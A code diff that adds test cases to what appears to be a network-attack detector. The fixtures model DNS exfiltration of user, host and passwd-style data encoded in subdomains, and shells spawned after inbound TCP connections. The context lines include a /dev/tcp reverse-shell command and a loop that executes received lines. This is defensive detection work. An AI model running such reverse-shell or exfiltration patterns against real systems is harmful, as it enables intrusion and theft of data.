@@ -1,5 +1,5 @@
 import { testFamily } from '../../../../test/trace/detector-table.ts'
-import { file, gets, runs, sets, system } from '../../../../test/trace/empty-trace.ts'
+import { environment, file, gets, runs, sets, system } from '../../../../test/trace/empty-trace.ts'
 import { traceFamily } from '../family.ts'
 import * as networkRegistry from './registry.ts'
 
@@ -99,9 +99,24 @@ testFamily(traceFamily(networkRegistry, 'network'), {
     hits: {
       'long names below one': [carrying(8)],
       'texts of names that were made': [texts((at) => `4c9fc2f89e5def89${at}.a.x.example`)],
+      'who asks, in the letters of base32': [
+        environment({ user: 'anna', host: 'WS-014' }),
+        lookUps('mfxg4ykak5js2mbrgq.0.q.x.example', 'mfxg4ykak5js2mbrgq.1.q.x.example'),
+      ],
+      'a text in digits': [
+        lookUps(
+          ...[0, 1, 2, 3, 4, 5].map(
+            (at) => `${Buffer.from(`root:x:0:${at}:/root:/bin/sh`).toString('hex')}.${at}.x.example`,
+          ),
+        ),
+      ],
     },
     misses: {
       'one long name': [carrying(1)],
+      'hashes that are asked about': [
+        environment({ user: 'anna', host: 'WS-014' }),
+        lookUps('9f86d081884c7d659a2feaa0c55ad015.h.x.example', '60303ae22b998861bce3b28f33eec1be.h.x.example'),
+      ],
       'proofs for a certificate': [texts((at) => `_acme-challenge.www${at}.x.example`)],
       'short names': [
         lookUps('a.x.example', 'b.x.example', 'c.x.example', 'd.x.example', 'e.x.example', 'f.x.example'),
@@ -167,6 +182,10 @@ testFamily(traceFamily(networkRegistry, 'network'), {
       'a connection whose lines are run': [
         runs('exec 5<>/dev/tcp/203.0.113.9/4444', { pid: 10 }),
         runs('while read line; do $line 2>&5 >&5; done <&5', { pid: 11 }),
+      ],
+      'the shell of a login, behind a terminal of its own': [
+        { network: [{ kind: 'tcp', host: '203.0.113.9', port: 4782, pid: 100 }] },
+        runs('-sh', { pid: 102, parentPid: 100 }),
       ],
       'a shell after a connection': [
         { network: [{ kind: 'tcp', host: '203.0.113.9', port: 4444, pid: 100 }] },
